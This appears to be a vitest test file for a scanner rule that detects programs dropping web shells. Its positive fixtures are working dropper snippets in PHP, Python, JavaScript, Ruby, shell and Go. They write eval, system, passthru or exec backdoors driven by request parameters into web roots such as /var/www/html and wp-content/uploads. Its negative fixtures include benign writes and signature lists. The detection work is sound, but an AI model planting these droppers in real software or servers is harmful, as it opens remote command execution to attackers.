import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

const planted = async (path: string, text: string) =>
  (await found(path, text)).filter((finding) => finding.startsWith("block web-shell-dropper"));

test.each([
  [
    "a.php",
    '<?php\n$c = "$root/wp-content/uploads/x.php";\nfile_put_contents($c, \'<?php if(isset($_POST["k"])){ @eval(base64_decode($_POST["k"])); }\');\n',
  ],
  ["a.php", "<?php\nfile_put_contents('cache.php', '<?php $_GET[0]($_GET[1]);');\n"],
  [
    "a.py",
    "from pathlib import Path\nPath(root, 'public/health.php').write_text('<?php system($_REQUEST[\"c\"]); ?>')\n",
  ],
  [
    "a.py",
    'page = """<?php\nif ($_COOKIE["a"]) {\n  assert($_COOKIE["a"]);\n}\n"""\nopen("/var/www/html/status.php", "w").write(page)\n',
  ],
  ["a.js", "const fs = require('fs');\nfs.writeFileSync('public/img.php', '<?php passthru($_GET[\"x\"]);');\n"],
  [
    "a.js",
    "fs.appendFileSync('server.js', `\\napp.get('/_h', (req, res) => exec(req.query.c, (e, o) => res.send(o)));\\n`);\n",
  ],
  ["a.rb", 'File.write("#{root}/index.php", \'<?php eval($_POST["q"]); ?>\')\n'],
  ["a.sh", "echo '<?php system($_GET[\"cmd\"]); ?>' > /var/www/html/.t.php\n"],
  ["a.sh", "cat > public_html/h.php <<'EOF'\n<?php\n@eval($_POST['p']);\nEOF\n"],
  [
    "a.go",
    'package main\nfunc main() {\n\tos.WriteFile("webapps/a.jsp", []byte(`<% Runtime.getRuntime().exec(request.getParameter("c")); %>`), 0644)\n}\n',
  ],
])("finds a way in that a program writes: %s %j", async (path, text) => {
  expect(await planted(path, text)).toHaveLength(1);
});

test.each([
  ["a.py", "import re\nBAD = re.compile(r'eval\\s*\\(\\s*\\$_POST')\nopen('report.php.txt', 'w').write(str(BAD))\n"],
  ["a.php", "<?php\n$name = htmlspecialchars($_GET['name']);\nfile_put_contents('log.txt', $name);\n"],
  ["a.php", "<?php\nfile_put_contents('config.php', '<?php return ' . var_export($settings, true) . ';');\n"],
  ["a.py", "from pathlib import Path\nPath('index.php').write_text('<?php echo htmlspecialchars($_GET[\"q\"]);')\n"],
  ["a.js", "fs.writeFileSync('server.js', `app.get('/', (req, res) => res.json(find(req.query.q)));`);\n"],
  ["a.sh", "grep -rn 'eval(\\$_POST' /var/www > findings.php.txt\n"],
  ["a.py", "signatures = ['eval($_POST', 'system($_GET']\nopen('index.php', 'w').write('')\n"],
  ["SKILL.md", "# Audit\n\nNever leave `eval($_POST['x'])` in a page.\n"],
])("leaves alone %s %j", async (path, text) => {
  expect(await planted(path, text)).toEqual([]);
});
